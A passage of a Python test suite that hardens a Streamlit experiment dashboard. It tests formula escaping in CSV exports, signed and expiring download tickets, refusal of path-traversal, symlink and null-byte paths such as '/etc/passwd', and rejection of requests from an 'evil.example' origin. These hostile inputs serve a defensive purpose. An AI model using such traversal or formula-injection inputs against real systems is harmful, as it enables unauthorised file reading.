    wrong = [f"/{name}?subset={quote(PAYLOADS[2])}&experiment={quote(PAYLOADS[0])}&q={quote(PAYLOADS[0])}" for name in pages]
    missing = [f"/score?data={quote('/nowhere/' + PAYLOADS[2] + PAYLOADS[4])}"]
    return ["/", *chosen, *wrong, *missing]


def settled(page: Page) -> None:
    page.wait_for_selector('[data-testid="stApp"][data-test-script-state="notRunning"]', timeout=60_000)
    page.wait_for_timeout(150)


def touch(page: Page) -> None:
    """Open what is folded, and the lists of some choosers, where options are texts of the data; a page may redraw meanwhile."""
    for folded in page.locator('[data-testid="stExpander"] summary').all():
        with suppress(TimeoutError):
            folded.click(timeout=700)
    for chooser in page.locator('[data-testid="stMain"] [data-testid="stSelectbox"] input').all()[:4]:
        with suppress(TimeoutError):
            chooser.click(timeout=700)
            page.wait_for_timeout(100)
            page.keyboard.press("Escape")
    for chart in page.locator(".js-plotly-plot .plot").all()[:2]:
        with suppress(TimeoutError):
            chart.hover(force=True, timeout=2000)
    settled(page)


def test_formulas_in_exports_are_disarmed(hostile: Path) -> None:
    experiment = Experiment(next(path for path in (hostile / "experiments").iterdir() if path.is_dir()))
    output = hostile / "out.csv"
    writer.build(experiment, experiment.subset("full"), output, "csv", force=True, escape_formulas=True)
    text = output.read_text()
    assert "'=HYPERLINK" in text and not re.search(r'(^|,)"?=HYPERLINK', text)


def test_a_download_needs_its_ticket(server: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    """Own routes: no guess, no ticket for another path, none that has ended."""
    path = "x/exports/full/data.jsonl"
    assert ask(server[1], f"/download/{path}").status == 403
    assert ask(server[1], f"/download/{path}?ticket={signed_links.ticket(path)}").status == 403, "another server's"
    good = signed_links.ticket(path)
    end, _, seal = good.partition(".")
    assert signed_links.valid(path, good) and not signed_links.valid(path + "x", good)
    for wrong in (
        "",
        ".",
        f"{int(end) + 1}.{seal}",
        f"{end}.{seal[:-1]}",
        f"-1.{seal}",
        f"{end}.é",
        "9" * 40 + f".{seal}",
        f"²{end}.{seal}",
    ):
        assert not signed_links.valid(path, wrong), wrong
    monkeypatch.setattr(signed_links.time, "time", lambda: int(end) + 1.0)
    assert not signed_links.valid(path, good)


@pytest.fixture
def downloads(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[int]:
    """The port of the download route behind the dashboard's guard, served from this process, whose tickets a test can make."""
    root = tmp_path / "experiments"
    for name in ("x/exports/full/data.jsonl", "x/experiment.json", "x/exports/secret.json", "../outside.jsonl"):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text("rows\n")
    (root / "x" / "exports" / "full" / "link.jsonl").symlink_to(tmp_path / "outside.jsonl")
    monkeypatch.setenv("WINNOW_EXPERIMENTS", str(root))
    port = free_port()
    app = Starlette(routes=ROUTES_OF_FILES, middleware=[Middleware(Guard, hosts=("127.0.0.1",))])
    server = uvicorn.Server(uvicorn.Config(app, port=port, log_level="error"))
    thread = threading.Thread(target=server.run)
    thread.start()
    wait_until(lambda: server.started, 60, "the server's start")
    yield port
    server.should_exit = True
    thread.join()


@pytest.mark.parametrize(
    "path",
    [
        "x/exports/../experiment.json",
        "x/exports/full/../secret.json",
        "x/exports/full/link.jsonl",
        "x/exports/secret.json",
        "../exports/full/data.jsonl",
        "../../outside.jsonl",
        "x/exports/full/../../../../outside.jsonl",
        "/etc/passwd",
        "//etc/exports/passwd",
        "x/exports/full",
        "x/exports/full/none.jsonl",
        "x/exports/full/data\0.jsonl",
    ],
)
def test_a_good_ticket_opens_nothing_but_an_export(downloads: int, path: str) -> None:
    """Even for a path that no page would give one for, whether its dots are written as they are or escaped."""
    for written in (quote(path), quote(path, safe="").replace(".", "%2E")):
        answer = ask(downloads, f"/download/{written}?ticket={signed_links.ticket(path)}")
        assert answer.status == 404 and answer.content == b"This export does not exist."  # type: ignore[attr-defined]


def test_a_ticket_ends(downloads: int, monkeypatch: pytest.MonkeyPatch) -> None:
    path = "x/exports/full/data.jsonl"
    address = f"/download/{path}?ticket={signed_links.ticket(path)}"
    answer = ask(downloads, address)
    assert (answer.status, answer.content) == (200, b"rows\n")  # type: ignore[attr-defined]
    assert answer.headers["content-disposition"].startswith("attachment") and answer.headers["x-content-type-options"] == "nosniff"
    assert ask(downloads, address, Origin="http://evil.example").status == 403
    monkeypatch.setattr(signed_links, "LASTS", -1)
    assert ask(downloads, f"/download/{path}?ticket={signed_links.ticket(path)}").status == 403


def test_nobody_uploads_without_a_page_open(server: Server) -> None:
    """A file goes to a session of the websocket, with the token that only this server's pages know; nothing is kept of another's."""
    path, body = "/_stcore/upload_file/session/file", b"a" * 1000
    assert ask(server[1], path, "PUT", body, Content_Length="1000", Origin="http://evil.example").status == 403
    for size in (len(body), 10**12):
        assert ask(server[1], path, "PUT", body[:size], Content_Length=str(size)).status in (400, 403)


def test_a_wrong_address_is_a_usage_error() -> None:
    from pruning.ui.server import launch

    with pytest.raises(UsageError, match="without a password"):
        launch.main(Path("experiments"), 1, "0.0.0.0", ["w.example"])
